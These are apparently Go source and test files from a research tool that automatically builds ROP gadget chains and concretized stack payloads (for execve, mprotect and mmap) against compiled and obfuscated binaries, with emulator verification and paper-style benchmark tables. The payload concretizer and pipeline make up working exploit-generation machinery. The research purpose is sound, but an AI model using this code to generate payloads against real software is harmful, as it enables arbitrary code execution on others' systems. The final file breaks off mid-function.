			constraints = append(constraints, b.Eq(regState[r], b.Const(spec.Value, 64)))
		case planner.SpecPointer:
			off := extent
			extent = (extent + int64(len(spec.Data)) + 7) &^ 7
			data = append(data, datum{off: off, data: spec.Data})
			constraints = append(constraints, b.Eq(regState[r], b.Const(c.Base+uint64(off), 64)))
		}
	}

	// Pointer data must not collide with used cells or writes.
	for _, d := range data {
		for off, cl := range cells {
			if off < d.off+int64(len(d.data)) && d.off < off+int64(cl.size) {
				return nil, fmt.Errorf("%w: pointer data overlaps slot %d", ErrLayout, off)
			}
		}
	}

	// Every constraint variable must be an attacker-controlled cell.
	// Constraints over ambient values are acceptable only when universally
	// valid (they then hold regardless of the uncontrolled state) — this is
	// how opaque-predicate pre-conditions are discharged.
	s := c.solver()
	kept := constraints[:0]
	for _, con := range constraints {
		controlled := true
		for _, name := range expr.Vars(con) {
			if _, ok := parseCellVar(name); !ok {
				controlled = false
				break
			}
		}
		if controlled {
			kept = append(kept, con)
			continue
		}
		if !s.Valid(b, con) {
			return nil, fmt.Errorf("%w: constraint %s", ErrUncontrolled, con)
		}
	}
	constraints = kept

	// Solve.
	all := b.AndAll(constraints)
	res, model := s.Check(all)
	if res != solver.Sat {
		return nil, fmt.Errorf("%w: solver says %v", ErrUnsat, res)
	}

	// Materialize bytes.
	buf := make([]byte, extent)
	for i := range buf {
		buf[i] = 0x41 // filler
	}
	offs := make([]int64, 0, len(cells))
	for off := range cells {
		offs = append(offs, off)
	}
	sort.Slice(offs, func(i, j int) bool { return offs[i] < offs[j] })
	for _, off := range offs {
		cl := cells[off]
		v := model[cellVarName(off)] // zero if unconstrained
		for i := 0; i < int(cl.size) && off+int64(i) < extent; i++ {
			if off+int64(i) >= 0 {
				buf[off+int64(i)] = byte(v >> (8 * i))
			}
		}
	}
	for _, d := range data {
		copy(buf[d.off:], d.data)
	}

	return &Payload{
		Bytes: buf,
		Base:  c.Base,
		Entry: chain[0].Location,
		Chain: chain,
		Goal:  goal,
	}, nil
}

type wcell struct {
	val  *expr.Node
	size uint8
}

// resolveRead returns the expression a gadget sees when reading the payload
// region at abs: the latest gadget store there, or a payload cell, or an
// uncontrolled value for negative offsets outside the payload.
func (c *Concretizer) resolveRead(b *expr.Builder, abs int64, size uint8,
	cells map[int64]*cell, writes map[int64]wcell,
	getCell func(int64, uint8) (*expr.Node, error)) (*expr.Node, error) {

	if w, ok := writes[abs]; ok {
		if w.size != size {
			return nil, fmt.Errorf("%w: read size %d of %d-byte store at %d", ErrLayout, size, w.size, abs)
		}
		return w.val, nil
	}
	for off, w := range writes {
		if off != abs && off < abs+int64(size) && abs < off+int64(w.size) {
			return nil, fmt.Errorf("%w: read overlaps store at %d", ErrLayout, off)
		}
	}
	if abs < 0 {
		// Below the injected payload: memory the attacker does not control.
		return b.Var(fmt.Sprintf("below_%d", -abs), 64), nil
	}
	return getCell(abs, size)
}

func effectVars(eff *symex.Effect) []string {
	nodes := make([]*expr.Node, 0, len(eff.Regs)+8)
	for r := range eff.Regs {
		nodes = append(nodes, eff.Regs[r])
	}
	if eff.NextRIP != nil {
		nodes = append(nodes, eff.NextRIP)
	}
	nodes = append(nodes, eff.Conds...)
	for _, w := range eff.StackWrites {
		nodes = append(nodes, w.Val)
	}
	for _, a := range eff.MemReads {
		nodes = append(nodes, a.Addr)
	}
	for _, a := range eff.MemWrites {
		nodes = append(nodes, a.Addr, a.Val)
	}
	return expr.Vars(nodes...)
}

func isStack(name string) bool {
	_, ok := symex.ParseStackVar(name)
	return ok
}

func isReg(name string) bool {
	_, ok := symex.IsRegVar(name)
	return ok
}

// Verify injects the payload into a fresh emulator running the binary and
// reports whether the goal syscall fires with the demanded register values.
// This is the end-to-end ground truth for every generated payload.
func Verify(bin *sbf.Binary, p *Payload, maxSteps uint64) error {
	be, ok := isa.ByName(bin.ISA)
	if !ok {
		return fmt.Errorf("payload: unknown binary ISA %q", bin.ISA)
	}
	m := emu.NewMachineISA(be)
	os := emu.NewOS()
	m.OS = os
	m.Mem.LoadBinary(bin)

	// Map a stack around the injection point and place the payload so that
	// Bytes[0] sits at Base: the state just before the victim's "ret".
	stackBase := (p.Base - 0x8000) &^ (emu.PageSize - 1)
	m.Mem.Map(stackBase, 0x10000+uint64(len(p.Bytes)), emu.PermRead|emu.PermWrite)
	if err := m.Mem.WriteBytes(p.Base, p.Bytes); err != nil {
		return fmt.Errorf("payload: inject: %w", err)
	}
	m.Regs[be.SP()] = p.Base + 8
	m.RIP = p.Entry

	if maxSteps == 0 {
		maxSteps = 100_000
	}
	err := m.Run(maxSteps)

	// Locate the goal syscall number.
	var want uint64
	switch p.Goal.Name {
	case "execve":
		want = emu.SysExecve
	case "mprotect":
		want = emu.SysMprotect
	case "mmap":
		want = emu.SysMmap
	default:
		return fmt.Errorf("payload: unknown goal %q", p.Goal.Name)
	}
	ev := os.EventFor(want)
	if ev == nil {
		if err != nil {
			return fmt.Errorf("payload: goal syscall never fired: %w", err)
		}
		return errors.New("payload: goal syscall never fired")
	}

	// Check demanded argument registers against the backend's syscall ABI.
	abi := be.Syscall()
	argIdx := make(map[isa.Reg]int, len(abi.Args))
	for i, r := range abi.Args {
		argIdx[r] = i
	}
	for r, spec := range p.Goal.Regs {
		if r == abi.Num {
			continue // implied by the syscall number match
		}
		idx, ok := argIdx[r]
		if !ok {
			continue
		}
		switch spec.Kind {
		case planner.SpecConst:
			if ev.Args[idx] != spec.Value {
				return fmt.Errorf("payload: %s = %#x, want %#x", r, ev.Args[idx], spec.Value)
			}
		case planner.SpecPointer:
			got, err := m.Mem.ReadBytes(ev.Args[idx], len(spec.Data))
			if err != nil {
				return fmt.Errorf("payload: %s points at unreadable memory: %w", r, err)
			}
			if string(got) != string(spec.Data) {
				return fmt.Errorf("payload: %s points at %q, want %q", r, got, spec.Data)
			}
		}
	}
	return nil
}

// Dump renders the payload layout for reports: one line per 8-byte slot.
func (p *Payload) Dump() string {
	out := fmt.Sprintf("payload @ %#x, %d bytes, goal %s\n", p.Base, len(p.Bytes), p.Goal.Name)
	for off := 0; off+8 <= len(p.Bytes); off += 8 {
		v := binary.LittleEndian.Uint64(p.Bytes[off:])
		out += fmt.Sprintf("  +%04x: %016x\n", off, v)
	}
	return out
}
