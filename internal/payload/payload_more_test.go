package payload

import (
	"encoding/binary"
	"strings"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// TestDerefChainEndToEnd drives the controlled-memory mechanism: the only
// rdx setter loads through rbp, so the concretizer must pin [rbp-8] into
// the payload scratch region.
func TestDerefChainEndToEnd(t *testing.T) {
	src := `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rbp
    ret
    mov rdx, qword [rbp-8]
    ret
    syscall
`
	p := endToEnd(t, src, planner.ExecveGoal())
	// The payload must extend into the scratch region.
	if len(p.Bytes) <= 0x200 {
		t.Errorf("payload %d bytes: no scratch region", len(p.Bytes))
	}
	hasDeref := false
	for _, g := range p.Chain {
		if g.Effect.HasDerefs() {
			hasDeref = true
		}
	}
	if !hasDeref {
		t.Error("chain avoided the deref gadget")
	}
}

// TestDerefGeometry: two loads with fixed relative offsets must land in one
// scratch window with consistent geometry.
func TestDerefGeometryGrouping(t *testing.T) {
	src := `
    pop rax
    ret
    pop rdi
    ret
    pop rbp
    ret
    mov rsi, qword [rbp-8]
    mov rdx, qword [rbp-0x18]
    ret
    syscall
`
	p := endToEnd(t, src, planner.ExecveGoal())
	_ = p // verification inside endToEnd is the assertion
}

// TestStaticTableRead: a constant-address load from immutable text resolves
// to the actual bytes (the jump-table mechanism).
func TestStaticTableRead(t *testing.T) {
	src := `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    ret
    mov rdx, qword [rip+tbl-.next]
.next:
    ret
    syscall
tbl: .quad 0
`
	// Simpler: absolute addressing via a movabs'd constant is already
	// covered by compiled-binary tests; here check staticRead directly.
	_ = src
	bin := sbf.New()
	bin.AddSection(sbf.Section{
		Name: ".text", Addr: 0x1000, Flags: sbf.FlagRead | sbf.FlagExec,
		Data: []byte{1, 2, 3, 4, 5, 6, 7, 8, 9},
	})
	bin.AddSection(sbf.Section{
		Name: ".data", Addr: 0x2000, Flags: sbf.FlagRead | sbf.FlagWrite,
		Data: []byte{9, 9, 9, 9, 9, 9, 9, 9},
	})
	c := NewConcretizer(&mockPool, bin, 0x7FFF8000)
	v, ok := c.staticRead(0x1000, 8)
	if !ok || v != 0x0807060504030201 {
		t.Errorf("staticRead = %#x, %v", v, ok)
	}
	// Writable sections must not resolve (contents can change at runtime).
	if _, ok := c.staticRead(0x2000, 8); ok {
		t.Error("staticRead resolved a writable section")
	}
	// Out-of-bounds reads must not resolve.
	if _, ok := c.staticRead(0x1008, 8); ok {
		t.Error("staticRead resolved past section end")
	}
	if _, ok := c.staticRead(0x3000, 8); ok {
		t.Error("staticRead resolved unmapped memory")
	}
}

// TestPayloadDumpFormat sanity-checks the diagnostic dump.
func TestPayloadDumpFormat(t *testing.T) {
	p := &Payload{
		Bytes: make([]byte, 24),
		Base:  0x7FFF8000,
		Goal:  planner.ExecveGoal(),
	}
	binary.LittleEndian.PutUint64(p.Bytes, 0x401000)
	dump := p.Dump()
	if !strings.Contains(dump, "0000000000401000") || !strings.Contains(dump, "execve") {
		t.Errorf("dump = %q", dump)
	}
}

// TestVerifyUnknownGoal exercises the error path.
func TestVerifyUnknownGoal(t *testing.T) {
	bin, _ := buildBin(t, "ret")
	p := &Payload{Bytes: make([]byte, 16), Base: 0x7FFF8000, Entry: 0x401000,
		Goal: planner.Goal{Name: "nonsense"}}
	if err := Verify(bin, p, 10); err == nil {
		t.Error("unknown goal accepted")
	}
}

// mockPool is an empty pool for direct Concretizer construction.
var mockPool = gadget.Pool{Builder: expr.NewBuilder()}
