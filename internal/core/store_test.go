package core

import (
	"testing"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

// attackSig renders a FindAll result for byte-comparison.
func attackSig(attacks map[string]*Attack) string {
	out := ""
	for _, goal := range planner.Goals() {
		atk := attacks[goal.Name]
		out += goal.Name + ":"
		for _, p := range atk.Plans {
			out += p.Signature() + ";"
		}
		for _, pl := range atk.Payloads {
			out += string(pl.Bytes)
		}
		out += "\n"
	}
	return out
}

// TestStoreTransparent pins the store's core contract: Analyze + FindAll
// with a store — cold, then warm from the same store — produce exactly the
// plans and payload bytes of the storeless pipeline, and the warm run's
// stage timings are marked Cached while reporting the original compute
// cost, not the lookup's.
func TestStoreTransparent(t *testing.T) {
	p, ok := benchprog.ByName("crc")
	if !ok {
		t.Fatal("crc benchmark missing")
	}
	bin, err := benchprog.Build(p, obfuscate.LLVMObf(), 42)
	if err != nil {
		t.Fatal(err)
	}
	cfg := Config{Planner: planner.Options{MaxPlans: 4, MaxNodes: 5000, Timeout: 15 * time.Second}}

	bare := Analyze(bin, cfg)
	ref := attackSig(bare.FindAll())

	store := pipeline.NewStore()
	cfg.Store = store
	cold := Analyze(bin, cfg)
	if got := attackSig(cold.FindAll()); got != ref {
		t.Errorf("cold store run differs from storeless run:\n%s\nvs\n%s", got, ref)
	}
	for _, tm := range cold.Timings {
		if tm.Cached {
			t.Errorf("cold run stage %s marked cached", tm.Name)
		}
	}

	warm := Analyze(bin, cfg)
	if got := attackSig(warm.FindAll()); got != ref {
		t.Error("warm store run differs from storeless run")
	}
	if warm.Pool != cold.Pool {
		t.Error("warm run did not share the minimized pool artifact")
	}
	coldDur := map[string]time.Duration{}
	for _, tm := range cold.Timings {
		coldDur[tm.Name] = tm.Duration
	}
	for _, tm := range warm.Timings {
		if !tm.Cached {
			t.Errorf("warm run stage %s not marked cached", tm.Name)
		}
		if tm.Duration != coldDur[tm.Name] {
			t.Errorf("warm stage %s reports %v, want original cost %v",
				tm.Name, tm.Duration, coldDur[tm.Name])
		}
	}
}

// TestStoreDiskMatrix extends the cache matrix to the persistent tier:
// disk-backed vs memory-only × cold vs warm vs warm-across-process ×
// parallelism 1/2/8 all produce byte-identical plans and payloads, and the
// across-process arm really is served from disk (extraction disk hits).
func TestStoreDiskMatrix(t *testing.T) {
	p, ok := benchprog.ByName("crc")
	if !ok {
		t.Fatal("crc benchmark missing")
	}
	bin, err := benchprog.Build(p, obfuscate.LLVMObf(), 42)
	if err != nil {
		t.Fatal(err)
	}
	cfg := Config{Planner: planner.Options{MaxPlans: 4, MaxNodes: 5000, Timeout: 15 * time.Second}}

	ref := attackSig(Analyze(bin, cfg).FindAll())

	for _, par := range []int{1, 2, 8} {
		cfg.Parallelism = par
		dir := t.TempDir()

		disk, err := pipeline.OpenDisk(dir, pipeline.DiskOptions{})
		if err != nil {
			t.Fatal(err)
		}
		diskStore := pipeline.NewStore().WithDisk(disk)
		cfg.Store = diskStore
		if got := attackSig(Analyze(bin, cfg).FindAll()); got != ref {
			t.Errorf("P=%d cold disk-backed run differs from storeless run", par)
		}
		if got := attackSig(Analyze(bin, cfg).FindAll()); got != ref {
			t.Errorf("P=%d warm in-process disk-backed run differs", par)
		}

		// Across-process: fresh store and fresh disk handle over the same
		// directory — every artifact must come back through the codec.
		disk2, err := pipeline.OpenDisk(dir, pipeline.DiskOptions{})
		if err != nil {
			t.Fatal(err)
		}
		cfg.Store = pipeline.NewStore().WithDisk(disk2)
		if got := attackSig(Analyze(bin, cfg).FindAll()); got != ref {
			t.Errorf("P=%d warm across-process run differs from storeless run", par)
		}
		var extract pipeline.StageStats
		for _, st := range cfg.Store.Stats() {
			if st.Stage == "extract" {
				extract = st
			}
		}
		if extract.DiskHits == 0 {
			t.Errorf("P=%d across-process run had no extraction disk hits", par)
		}

		// The -nodisk arm: memory-only store, same bytes.
		cfg.Store = pipeline.NewStore()
		if got := attackSig(Analyze(bin, cfg).FindAll()); got != ref {
			t.Errorf("P=%d nodisk run differs from storeless run", par)
		}
	}
}

// TestStoreWithGadgetFilter: a closure-valued filter cannot be
// fingerprinted, so only extraction is cached — and results still match
// the storeless filtered pipeline.
func TestStoreWithGadgetFilter(t *testing.T) {
	p, _ := benchprog.ByName("crc")
	bin, err := benchprog.Build(p, obfuscate.LLVMObf(), 42)
	if err != nil {
		t.Fatal(err)
	}
	filter := func(g *gadget.Gadget) bool { return !g.HasCond }
	cfg := Config{
		Planner:      planner.Options{MaxPlans: 2, MaxNodes: 2000, Timeout: 10 * time.Second},
		GadgetFilter: filter,
	}
	bare := Analyze(bin, cfg)

	cfg.Store = pipeline.NewStore()
	a1 := Analyze(bin, cfg)
	a2 := Analyze(bin, cfg)
	if a1.Pool.Size() != bare.Pool.Size() {
		t.Errorf("filtered pool: store %d vs bare %d", a1.Pool.Size(), bare.Pool.Size())
	}
	if a1.RawPool != a2.RawPool {
		t.Error("extraction not shared under GadgetFilter")
	}
	if a1.poolKey != "" {
		t.Errorf("filtered analysis has a pool key %q; plans must not be cached", a1.poolKey)
	}
	// Downstream stages bypass the store: only extract counters move.
	for _, st := range cfg.Store.Stats() {
		if st.Stage != "extract" && (st.Hits != 0 || st.Misses != 0) {
			t.Errorf("stage %s saw traffic under GadgetFilter: %d/%d", st.Stage, st.Hits, st.Misses)
		}
	}
}
