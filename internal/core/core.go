// Package core is Gadget-Planner's public pipeline API: it wires the four
// stages of the paper's workflow (gadget extraction, subsumption testing,
// partial-order planning, payload post-processing) behind two calls —
// Analyze (stages 1–2, producing the gadget library) and FindPayloads
// (stages 3–4, producing verified attack payloads for a goal) — with
// per-stage time and memory accounting (Table VII).
package core

import (
	"fmt"
	"runtime"
	"sync"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/payload"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/subsume"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// Config tunes the pipeline.
type Config struct {
	// Extract configures stage 1.
	Extract gadget.Options
	// Subsume configures stage 2.
	Subsume subsume.Options
	// Planner configures stage 3.
	Planner planner.Options
	// PayloadBase is the stack address payloads are concretized for
	// (default 0x7FFF8000; the threat model assumes it is known).
	PayloadBase uint64
	// VerifySteps bounds emulated payload verification (default 100k).
	VerifySteps uint64
	// SkipSubsume disables stage 2 (ablation).
	SkipSubsume bool
	// GadgetFilter, if set, restricts the pool to gadgets it accepts
	// (ablation: gadget-class studies).
	GadgetFilter func(*gadget.Gadget) bool
	// SkipVerify accepts solver-concretized payloads without emulating
	// them (used only by performance benchmarks).
	SkipVerify bool
	// Parallelism is how many workers extraction, subsumption, and
	// planning may use (0 = runtime.GOMAXPROCS(0), 1 = single-threaded).
	// Stage-level settings in Extract/Subsume/Planner, when non-zero,
	// take precedence. Results are identical at every worker count.
	Parallelism int
	// Store, if set, is the content-addressed artifact store the pipeline
	// stages consult (pipeline.NewStore()): stages whose fingerprinted
	// inputs were already computed — by this analysis, a sibling cell, or
	// an earlier experiment sharing the store — are served from it, and
	// concurrent requests for one artifact compute it exactly once.
	// Results are byte-identical with or without a store. Nil computes
	// every stage directly. A closure-valued GadgetFilter cannot be
	// fingerprinted, so when it is set only extraction is cached. A store
	// opened with a persistent tier (pipeline.OpenDisk + Store.WithDisk)
	// additionally serves artifacts computed by earlier processes, still
	// byte-identically.
	Store *pipeline.Store
}

func (c Config) withDefaults() Config {
	if c.PayloadBase == 0 {
		c.PayloadBase = 0x7FFF_8000
	}
	if c.VerifySteps == 0 {
		c.VerifySteps = 100_000
	}
	if c.Parallelism <= 0 {
		c.Parallelism = runtime.GOMAXPROCS(0)
	}
	if c.Extract.Parallelism == 0 {
		c.Extract.Parallelism = c.Parallelism
	}
	if c.Subsume.Parallelism == 0 {
		c.Subsume.Parallelism = c.Parallelism
	}
	if c.Planner.Parallelism == 0 {
		c.Planner.Parallelism = c.Parallelism
	}
	return c
}

// StageTiming records one pipeline stage's cost (Table VII rows).
type StageTiming struct {
	Name string
	// Duration is the cost of computing the stage's artifact. When the
	// artifact was served from Config.Store (Cached), it is the recorded
	// cost of the original computation, not this call's near-zero lookup
	// time — so per-stage tables stay meaningful warm or cold, and the
	// wall-clock savings show up in suite totals instead.
	Duration time.Duration
	// AllocBytes is the heap allocated computing the stage (a proxy for
	// the paper's peak-memory column).
	AllocBytes uint64
	// Cached reports the stage was served from the artifact store.
	Cached bool
}

// timingOf converts a store request outcome into a timing row.
func timingOf(name string, info pipeline.Info) StageTiming {
	return StageTiming{
		Name:       name,
		Duration:   info.Compute,
		AllocBytes: info.AllocBytes,
		Cached:     info.Hit,
	}
}

// Analysis is the result of stages 1–2 on one binary.
type Analysis struct {
	Binary *sbf.Binary
	// RawPool is the pool before subsumption testing.
	RawPool *gadget.Pool
	// Pool is the minimized gadget library the planner searches.
	Pool *gadget.Pool
	// SubsumeStats reports the stage-2 reduction.
	SubsumeStats subsume.Stats
	// Timings holds per-stage costs accumulated so far.
	Timings []StageTiming

	cfg Config
	// poolKey is the artifact key of Pool; "" when the analysis ran
	// without a store or through an unfingerprintable GadgetFilter, in
	// which case plan-stage results are computed directly.
	poolKey string
}

// Analyze runs gadget extraction and subsumption testing. With Config.Store
// set, each stage is served from the content-addressed artifact store when
// its fingerprinted inputs — binary content plus stage options — were
// already computed; results are byte-identical either way.
func Analyze(bin *sbf.Binary, cfg Config) *Analysis {
	cfg = cfg.withDefaults()
	// Adopt the binary's backend unless the caller pinned one explicitly.
	// Pre-multi-ISA binaries carry an empty ISA tag (x64), which keeps the
	// extraction fingerprint — and every warm cache key — unchanged.
	if cfg.Extract.ISA == "" {
		cfg.Extract.ISA = bin.ISA
	}
	a := &Analysis{Binary: bin, cfg: cfg}

	var rawKey string
	if cfg.Store != nil {
		rawKey = pipeline.ExtractKey(cfg.Store.BinaryKey(bin), cfg.Extract)
	}
	raw, xinfo, _ := pipeline.Do(cfg.Store, pipeline.StageExtract, rawKey,
		func() (*gadget.Pool, error) { return gadget.Extract(bin, cfg.Extract), nil })
	a.RawPool = raw
	a.Timings = append(a.Timings, timingOf("extraction", xinfo))

	pool := a.RawPool
	poolKey := rawKey
	if cfg.GadgetFilter != nil {
		poolKey = "" // closures have no canonical fingerprint
		filtered := &gadget.Pool{
			Builder: pool.Builder,
			ISA:     pool.ISA,
			ByReg:   make(map[isa.Reg][]*gadget.Gadget),
			Stats:   pool.Stats,
		}
		for _, g := range pool.Gadgets {
			if cfg.GadgetFilter(g) {
				addGadget(filtered, g)
			}
		}
		// The copied stats describe the unfiltered pool; recompute the
		// pool-content counters so they reflect what the filter kept.
		// Scan-level counters (offsets, raw candidates, unsupported) are
		// properties of the binary, not the filter, and stay as-is.
		filtered.Stats.Supported = len(filtered.Gadgets)
		filtered.Stats.MergedGadgets = 0
		filtered.Stats.ByType = make(map[gadget.JmpType]int)
		for _, g := range filtered.Gadgets {
			if g.Merged {
				filtered.Stats.MergedGadgets++
			}
			filtered.Stats.ByType[g.JmpType]++
		}
		pool = filtered
	}

	if cfg.SkipSubsume {
		a.Pool = pool
		a.SubsumeStats = subsume.Stats{Before: pool.Size(), After: pool.Size()}
		if poolKey != "" {
			a.poolKey = pipeline.SkipSubsumeKey(poolKey)
		}
		return a
	}
	var minKey string
	if poolKey != "" {
		minKey = pipeline.MinimizeKey(poolKey, cfg.Subsume)
	}
	min, minfo, _ := pipeline.Do(cfg.Store, pipeline.StageMinimize, minKey,
		func() (pipeline.Minimized, error) {
			p, s := subsume.Minimize(pool, cfg.Subsume)
			return pipeline.Minimized{Pool: p, Stats: s}, nil
		})
	a.Pool, a.SubsumeStats = min.Pool, min.Stats
	a.poolKey = minKey
	a.Timings = append(a.Timings, timingOf("subsumption", minfo))
	return a
}

// Attack is the outcome of stages 3–4 for one goal. The type lives in
// internal/pipeline — it is the plan stage's store artifact, which the
// persistent tier serializes — and core re-exports it unchanged.
type Attack = pipeline.Attack

// FindPayloads runs planning and payload construction toward one goal.
// Every returned payload has been validated end-to-end in the emulator
// against the analyzed binary (unless SkipVerify).
func (a *Analysis) FindPayloads(goal planner.Goal) *Attack {
	atk, timing := a.findPayloads(goal)
	a.Timings = append(a.Timings, timing)
	return atk
}

// findPayloads is FindPayloads without the shared-state bookkeeping, so
// FindAll can fan goals out across goroutines. The search runs on a
// private deep copy of the pool: payload concretization interns fresh
// expression nodes into the pool builder, so goals sharing one builder
// would race — and because the clone is built deterministically, results
// are a function of the pool alone, identical however many goals run
// concurrently. That same cloning is what makes the plan artifact safely
// shareable: the store's pool artifact is never mutated.
func (a *Analysis) findPayloads(goal planner.Goal) (*Attack, StageTiming) {
	cfg := a.cfg
	var key string
	if a.poolKey != "" {
		key = pipeline.PlanKey(a.poolKey, goal.Name, cfg.Planner,
			cfg.PayloadBase, cfg.VerifySteps, cfg.SkipVerify)
	}
	atk, info, _ := pipeline.Do(cfg.Store, pipeline.StagePlan, key,
		func() (*Attack, error) {
			atk := &Attack{Goal: goal}
			pool := gadget.ClonePool(a.Pool)
			conc := payload.NewConcretizer(pool, a.Binary, cfg.PayloadBase)

			opts := cfg.Planner
			opts.Validate = func(p *planner.Plan) bool {
				pl, err := conc.Concretize(p, goal)
				if err != nil {
					atk.ConcretizeFailures++
					return false
				}
				if !cfg.SkipVerify {
					stop := pipeline.TrackWall("verify")
					err := payload.Verify(a.Binary, pl, cfg.VerifySteps)
					stop()
					if err != nil {
						atk.ConcretizeFailures++
						return false
					}
				}
				atk.Payloads = append(atk.Payloads, pl)
				return true
			}

			res := planner.Search(pool, goal, opts)
			atk.Search = *res
			atk.Plans = res.Plans
			return atk, nil
		})
	return atk, timingOf("planning:"+goal.Name, info)
}

// FindAll runs all three standard attack goals (Table IV columns). The
// goals are fanned out on Config.Parallelism workers; results and timing
// rows are collected in the canonical goal order, so output is identical
// to the serial path.
func (a *Analysis) FindAll() map[string]*Attack {
	// Goals are expressed in the pool's backend syscall ABI; for x64 pools
	// this is exactly planner.Goals().
	goals := planner.GoalsForISA(a.Pool.ISA)
	attacks := make([]*Attack, len(goals))
	timings := make([]StageTiming, len(goals))
	workers := a.cfg.Parallelism
	if workers > len(goals) {
		workers = len(goals)
	}
	if workers <= 1 {
		for i, goal := range goals {
			attacks[i], timings[i] = a.findPayloads(goal)
		}
	} else {
		next := make(chan int)
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range next {
					attacks[i], timings[i] = a.findPayloads(goals[i])
				}
			}()
		}
		for i := range goals {
			next <- i
		}
		close(next)
		wg.Wait()
	}
	out := make(map[string]*Attack, len(goals))
	for i, goal := range goals {
		a.Timings = append(a.Timings, timings[i])
		out[goal.Name] = attacks[i]
	}
	return out
}

// TotalPayloads sums payload counts across goals.
func TotalPayloads(attacks map[string]*Attack) int {
	n := 0
	for _, atk := range attacks {
		n += len(atk.Payloads)
	}
	return n
}

// ChainStats summarizes chains for Table V: average gadget length, average
// chain length (both in instructions), and gadget-type composition.
type ChainStats struct {
	Chains       int
	AvgGadgetLen float64 // instructions per gadget
	AvgChainLen  float64 // instructions per chain
	PctRet       float64
	PctIndirect  float64
	PctDirect    float64 // merged across a direct jump
	PctCond      float64
}

// Summarize computes Table V metrics over a set of plans.
func Summarize(plans []*planner.Plan) ChainStats {
	var s ChainStats
	totGadgets, totInsts := 0, 0
	var ret, ind, dir, cond int
	for _, p := range plans {
		s.Chains++
		chainInsts := 0
		for _, g := range p.Chain() {
			totGadgets++
			chainInsts += g.NumInsts()
			switch {
			case g.HasCond:
				cond++
			case g.Merged:
				dir++
			case g.Effect.End == symex.EndJmpInd || g.Effect.End == symex.EndCallInd:
				ind++
			default:
				ret++
			}
		}
		totInsts += chainInsts
	}
	if totGadgets > 0 {
		s.AvgGadgetLen = float64(totInsts) / float64(totGadgets)
		s.PctRet = 100 * float64(ret) / float64(totGadgets)
		s.PctIndirect = 100 * float64(ind) / float64(totGadgets)
		s.PctDirect = 100 * float64(dir) / float64(totGadgets)
		s.PctCond = 100 * float64(cond) / float64(totGadgets)
	}
	if s.Chains > 0 {
		s.AvgChainLen = float64(totInsts) / float64(s.Chains)
	}
	return s
}

// String renders the stats as a Table V row.
func (s ChainStats) String() string {
	return fmt.Sprintf("chains=%d gadgetLen=%.1f chainLen=%.1f ret=%.0f%% ij=%.0f%% dj=%.0f%% cj=%.0f%%",
		s.Chains, s.AvgGadgetLen, s.AvgChainLen, s.PctRet, s.PctIndirect, s.PctDirect, s.PctCond)
}

// addGadget mirrors the pool insertion logic for filtered pools.
func addGadget(p *gadget.Pool, g *gadget.Gadget) {
	p.Gadgets = append(p.Gadgets, g)
	if g.JmpType == gadget.TypeSyscall {
		p.Syscalls = append(p.Syscalls, g)
	}
	for _, r := range g.ClobRegs {
		p.ByReg[r] = append(p.ByReg[r], g)
	}
}
