package core

import (
	"testing"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/payload"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

func analyzeCRC(t *testing.T, passes []obfuscate.Pass) *Analysis {
	t.Helper()
	p, ok := benchprog.ByName("crc")
	if !ok {
		t.Fatal("crc benchmark missing")
	}
	bin, err := benchprog.Build(p, passes, 42)
	if err != nil {
		t.Fatal(err)
	}
	return Analyze(bin, Config{
		Planner: planner.Options{MaxPlans: 4, MaxNodes: 5000, Timeout: 15 * time.Second},
	})
}

func TestPipelineOnCompiledBinary(t *testing.T) {
	a := analyzeCRC(t, nil)
	if a.RawPool.Size() == 0 || a.Pool.Size() == 0 {
		t.Fatalf("empty pools: raw=%d min=%d", a.RawPool.Size(), a.Pool.Size())
	}
	if a.SubsumeStats.ReductionFactor() <= 1 {
		t.Errorf("no subsumption reduction: %+v", a.SubsumeStats)
	}
	if len(a.Timings) < 2 {
		t.Errorf("timings = %v", a.Timings)
	}

	atk := a.FindPayloads(planner.ExecveGoal())
	if len(atk.Payloads) == 0 {
		t.Fatalf("no execve payloads on plain binary (expanded %d)", atk.Search.Expanded)
	}
	// Every returned payload re-verifies independently.
	for _, pl := range atk.Payloads {
		if err := payload.Verify(a.Binary, pl, 0); err != nil {
			t.Errorf("payload does not re-verify: %v", err)
		}
	}
}

func TestPipelineOnObfuscatedBinary(t *testing.T) {
	a := analyzeCRC(t, obfuscate.LLVMObf())
	attacks := a.FindAll()
	if TotalPayloads(attacks) == 0 {
		t.Fatal("no payloads on obfuscated binary")
	}
	if len(attacks) != 3 {
		t.Errorf("attacks = %d goals", len(attacks))
	}
	stats := Summarize(attacks["execve"].Plans)
	if stats.Chains == 0 || stats.AvgChainLen <= 0 || stats.AvgGadgetLen <= 0 {
		t.Errorf("stats = %+v", stats)
	}
	if stats.String() == "" {
		t.Error("empty stats string")
	}
}

func TestSkipSubsumeAblation(t *testing.T) {
	p, _ := benchprog.ByName("crc")
	bin, err := benchprog.Build(p, nil, 42)
	if err != nil {
		t.Fatal(err)
	}
	with := Analyze(bin, Config{})
	without := Analyze(bin, Config{SkipSubsume: true})
	if without.Pool.Size() <= with.Pool.Size() {
		t.Errorf("subsumption did not shrink pool: %d vs %d",
			without.Pool.Size(), with.Pool.Size())
	}
}

func TestGadgetFilter(t *testing.T) {
